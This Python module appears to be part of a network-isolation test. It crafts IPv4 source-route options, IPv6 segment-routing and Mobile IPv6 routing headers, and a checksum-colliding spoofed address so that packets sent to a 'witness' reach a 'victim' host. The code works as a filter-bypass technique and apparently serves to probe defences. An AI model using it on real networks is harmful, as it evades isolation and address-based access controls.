"""Source routes: a packet to a witness that goes to a victim first, by option (IP_OPTIONS, IPV6_RTHDR) or, with the
word `message`, by control message. With the word `ended`, one that says that it has been everywhere already, so that
the victim takes it for its own."""

import ipaddress
import socket
import struct

from common import TCP_PORT, UDP_PORT, VICTIMS, WITNESSES, WORDS, family, new, packed, reach, report

LOOSE = 131
IP_OPTIONS, IP_RETOPTS, IPV6_RTHDR, IPV6_2292PKTOPTIONS = 4, 7, 57, 6
SEGMENT_ROUTING = 4


def route4(first, last):
    """Loose source route: by way of the first to the last."""
    return struct.pack("BBB", LOOSE, 11, 4) + packed(first) + packed(last) + b"\0"


def route6(first, last):
    """A segment routing header: segments are written from the last to the first."""
    return struct.pack("BBBBBBH", 0, 4, SEGMENT_ROUTING, 1, 1, 0, 0) + packed(last) + packed(first)


def mobile_route6(first):
    """Mobile IPv6's routing header, which holds the address that comes first; the one that a message may have."""
    return struct.pack("BBBBI", 0, 2, 2, 1, 0) + packed(first)


def witness(address):
    return next(witness for witness in WITNESSES if family(witness) == family(address))


def routed(address, kind):
    client = new(address, kind)
    if family(address) == socket.AF_INET6:
        client.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, route6(address, witness(address)))
    else:
        client.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, route4(address, witness(address)))
    return client


def datagram(address, token):
    with routed(address, socket.SOCK_DGRAM) as client:
        client.sendto(token, (witness(address), UDP_PORT))


def connected(address, token):
    with routed(address, socket.SOCK_DGRAM) as client:
        client.connect((witness(address), UDP_PORT))
        client.send(token)


def stream(address, token):
    with routed(address, socket.SOCK_STREAM) as client:
        client.sendto(token, socket.MSG_FASTOPEN, (witness(address), TCP_PORT))


def mapped(address, token):
    """IPv4's option on an IPv6 socket."""
    with new("::") as client:
        client.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, route4(address, witness(address)))
        client.sendto(token, (f"::ffff:{witness(address)}", UDP_PORT))


def packet_options(address, token):
    """The header as a control message in an option (RFC 2292)."""
    header = mobile_route6(address)
    with new(address) as client:
        option = struct.pack("NII", 16 + len(header), socket.IPPROTO_IPV6, IPV6_RTHDR) + header
        client.setsockopt(socket.IPPROTO_IPV6, IPV6_2292PKTOPTIONS, option)
        client.sendto(token, (witness(address), UDP_PORT))


def twin(address):
    """A neighbour of the witness that adds up to the same as the victim: a packet's checksum is right for both."""
    network = ipaddress.ip_network(f"{witness(address)}/64", strict=False).network_address.packed
    words = sum(struct.unpack("!8H", packed(address))) - sum(struct.unpack("!8H", network))
    return socket.inet_ntop(socket.AF_INET6, network[:14] + struct.pack("!H", words % 0xffff))


def ended(address, token):
    """A segment routing header with no segment left, whose only one is the victim."""
    header = struct.pack("BBBBBBH", 0, 2, SEGMENT_ROUTING, 0, 0, 0, 0) + packed(address)
    with new(address) as client:
        client.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
        client.sendto(token, (twin(address), UDP_PORT))


def control(address):
    if family(address) == socket.AF_INET6:
        return [(socket.IPPROTO_IPV6, IPV6_RTHDR, mobile_route6(address))]
    return [(socket.IPPROTO_IP, IP_RETOPTS, route4(address, witness(address)))]


def message(address, token):
    with new(address) as client:
        client.sendmsg([token], control(address), 0, (witness(address), UDP_PORT))


def connected_message(address, token):
    with new(address) as client:
        client.connect((witness(address), UDP_PORT))
        client.sendmsg([token], control(address))


if "message" in WORDS:
    reach("sendmsg", message)
    reach("connected sendmsg", connected_message)
elif "ended" in WORDS:
    reach("ended segments", ended)
else:
    reach("sendto", datagram)
    reach("connect", connected)
    reach("TCP", stream)
    reach("IP_OPTIONS on an IPv6 socket", mapped, [address for address in VICTIMS if "." in address])
    reach("IPV6_2292PKTOPTIONS", packet_options, [address for address in VICTIMS if ":" in address])
report()
